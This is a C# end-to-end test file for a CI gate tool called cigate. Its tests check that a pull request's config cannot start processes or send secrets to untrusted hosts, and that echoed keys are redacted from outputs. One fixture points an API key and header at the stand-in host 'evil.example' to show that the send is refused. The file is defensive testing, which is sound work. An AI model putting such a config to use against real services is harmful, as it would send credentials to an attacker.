using System.Text;
using CiGate.EndToEnd.Tests.Support;

namespace CiGate.EndToEnd.Tests;

/// <summary>
/// README "Security" through the real cigate process: a pull request's cigate.yml cannot make the
/// gate start a process or send a secret to a host the workflow did not trust, and no secret a
/// server echoes back (API key, header values) reaches the results, the report, the history
/// store or the console.
/// </summary>
public sealed class TrustTests
{
    // Trust comes only from the workflow: none leaks in from the machine running the tests.
    private static readonly Dictionary<string, string?> NoTrust = new() { ["CIGATE_ALLOW_COMMANDS"] = null, ["CIGATE_TRUSTED_HOSTS"] = null };

    [Fact]
    public async Task A_server_command_without_allow_commands_is_refused_and_nothing_starts()
    {
        using var folder = new TempFolder();
        var flag = folder.File("started.flag");
        var yaml = PerfConfig($"touch \"{flag}\"; sleep 30");
        var config = folder.Write("cigate.yml", yaml);

        var refused = await CigateProcess.RunWithAsync(folder.Path, NoTrust, "run", config, "--out", folder.File("out"), "--quiet");
        await Task.Delay(300, TestContext.Current.CancellationToken);

        Assert.True(refused.ExitCode == 2, refused.ToString());
        var line = Assert.Single(refused.Stderr.Split('\n'), l => l.Contains("CIGATE0022", StringComparison.Ordinal));
        Assert.StartsWith($"{config}({LineOf(yaml, "command:")},", line, StringComparison.Ordinal);
        Assert.Contains("'suites.serving.server.command' would start a process", line, StringComparison.Ordinal);
        Assert.Contains("--allow-commands", line, StringComparison.Ordinal);
        Assert.DoesNotContain("   at ", refused.Stderr, StringComparison.Ordinal);
        Assert.False(File.Exists(flag), "the command ran");
        Assert.False(Directory.Exists(folder.File("out")), "the run started");

        // The workflow's allowance (here the environment variable) does start it.
        var allowed = await CigateProcess.RunWithAsync(
            folder.Path, new Dictionary<string, string?>(NoTrust) { ["CIGATE_ALLOW_COMMANDS"] = "1" }, "run", config, "--out", folder.File("out2"), "--quiet");
        Assert.True(File.Exists(flag), allowed.ToString());
    }

    [Fact]
    public async Task A_key_for_an_untrusted_host_is_refused_before_any_request()
    {
        using var folder = new TempFolder();
        folder.Write("prompt.txt", "Say {{ q }}");
        var yaml = PromptsConfig("    base_url: http://evil.example/v1\n    model: m\n    api_key_env: CIGATE_E2E_KEY\n    headers:\n      x-api-key: \"${env:CIGATE_E2E_GATEWAY}\"\n");
        var config = folder.Write("cigate.yml", yaml);
        var environment = new Dictionary<string, string?>(NoTrust) { ["CIGATE_E2E_KEY"] = "sk-e2e-untrusted-0001", ["CIGATE_E2E_GATEWAY"] = "gw-e2e-untrusted-0002" };

        var refused = await CigateProcess.RunWithAsync(folder.Path, environment, "run", config, "--out", folder.File("out"), "--quiet");

        Assert.True(refused.ExitCode == 2, refused.ToString());
        var line = Assert.Single(refused.Stderr.Split('\n'), l => l.Contains("CIGATE0023", StringComparison.Ordinal));
        Assert.StartsWith($"{config}({LineOf(yaml, "base_url:")},", line, StringComparison.Ordinal);
        Assert.Contains("would send the API key from CIGATE_E2E_KEY and header 'x-api-key' (read from the environment) to 'evil.example'", line, StringComparison.Ordinal);
        Assert.False(Directory.Exists(folder.File("out")), "the run started");

        // Trusted by the workflow, the run goes on, here as far as reading the key (unset: CIGATE0011 at
        // api_key_env), still before any connection.
        environment["CIGATE_E2E_KEY"] = null;
        var trusted = await CigateProcess.RunWithAsync(folder.Path, environment, "run", config, "--out", folder.File("out2"), "--quiet", "--trusted-host", "evil.example");
        Assert.True(trusted.ExitCode == 2, trusted.ToString());
        Assert.DoesNotContain("CIGATE0023", trusted.Stderr, StringComparison.Ordinal);
        var missing = Assert.Single(trusted.Stderr.Split('\n'), l => l.Contains("CIGATE0011", StringComparison.Ordinal));
        Assert.StartsWith($"{config}({LineOf(yaml, "api_key_env:")},", missing, StringComparison.Ordinal);
        AssertNoSecret(folder.Path, trusted, "gw-e2e-untrusted-0002");
    }

    [Fact]
    public async Task Secrets_a_server_echoes_never_reach_results_report_history_or_console()
    {
        using var folder = new TempFolder();
        folder.Write("prompt.txt", "Say {{ q }}");
        folder.Write("echo.yaml", "- match: Say\n  reply: \"key={{header:x-api-key}} team={{header:x-team}} auth={{header:Authorization}} done\"\n");
        var config = folder.Write("cigate.yml", PromptsConfig(
            "    model: echo-bot\n    simulator: { scripts: [echo.yaml] }\n    api_key_env: CIGATE_E2E_KEY\n    headers:\n      x-api-key: \"${env:CIGATE_E2E_GATEWAY}\"\n      x-team: literal-team-secret-42\n"));
        var environment = new Dictionary<string, string?>(NoTrust) { ["CIGATE_E2E_KEY"] = "sk-e2e-echoed-0001", ["CIGATE_E2E_GATEWAY"] = "gw-e2e-echoed-0002" };

        var run = await CigateProcess.RunWithAsync(
            folder.Path, environment, "run", config, "--out", folder.File("out"), "--record", "--history-db", folder.File("history.db"), "--history-output-chars", "1000");
        var compare = await CigateProcess.RunWithAsync(
            folder.Path, environment, "compare", "--base", folder.File("out"), "--head", folder.File("out"), "--out", folder.File("report"));

        Assert.True(run.ExitCode == 0, run.ToString());
        Assert.True(compare.ExitCode == 0, compare.ToString());
        var items = File.ReadAllText(Path.Combine(folder.File("out"), "items.jsonl"));
        Assert.Contains("key=*** team=*** auth=Bearer *** done", items, StringComparison.Ordinal);
        Assert.True(File.Exists(folder.File("history.db")) && Directory.EnumerateFiles(folder.File("report")).Any());
        AssertNoSecret(folder.Path, run, "sk-e2e-echoed-0001", "gw-e2e-echoed-0002", "literal-team-secret-42");
        AssertNoSecret(folder.Path, compare, "sk-e2e-echoed-0001", "gw-e2e-echoed-0002", "literal-team-secret-42");
    }

    /// <summary>No secret in what the process printed, nor in any file under the folder except the config that holds the literal header.</summary>
    private static void AssertNoSecret(string root, ProcessResult result, params string[] secrets)
    {
        foreach (var secret in secrets)
        {
            Assert.DoesNotContain(secret, result.Stdout, StringComparison.Ordinal);
            Assert.DoesNotContain(secret, result.Stderr, StringComparison.Ordinal);
            var bytes = Encoding.UTF8.GetBytes(secret);
            foreach (var file in Directory.EnumerateFiles(root, "*", SearchOption.AllDirectories).Where(f => Path.GetFileName(f) != "cigate.yml"))
            {
                Assert.True(File.ReadAllBytes(file).AsSpan().IndexOf(bytes) < 0, $"'{secret}' is in {file}");
            }
        }
    }

    private static int LineOf(string text, string needle) => text[..text.IndexOf(needle, StringComparison.Ordinal)].Count(c => c == '\n') + 1;

    private static string PerfConfig(string command) => $"""
        version: 1
        targets:
          local:
            base_url: http://127.0.0.1:9/v1
            model: m
        suites:
          serving:
            kind: perf
            targets: [local]
            workload: {"{"} prompt_tokens: 16, output_tokens: 4 {"}"}
            profile: concurrent
            concurrency: 1
            max_requests: 1
            server:
              command: {command}
              ready: {"{"} timeout: 2s, interval: 100ms {"}"}
              stop_timeout: 2s

        """;

    private static string PromptsConfig(string target) => $"""
        version: 1
        targets:
          t:
        {target}
        suites:
          echo:
            kind: prompts
            prompts:
              - {"{"} id: p, file: prompt.txt {"}"}
            tests:
              - description: echoes
                vars: {"{"} q: hello {"}"}
                assert: [ {"{"} type: icontains, value: "done" {"}"} ]

        """;
}
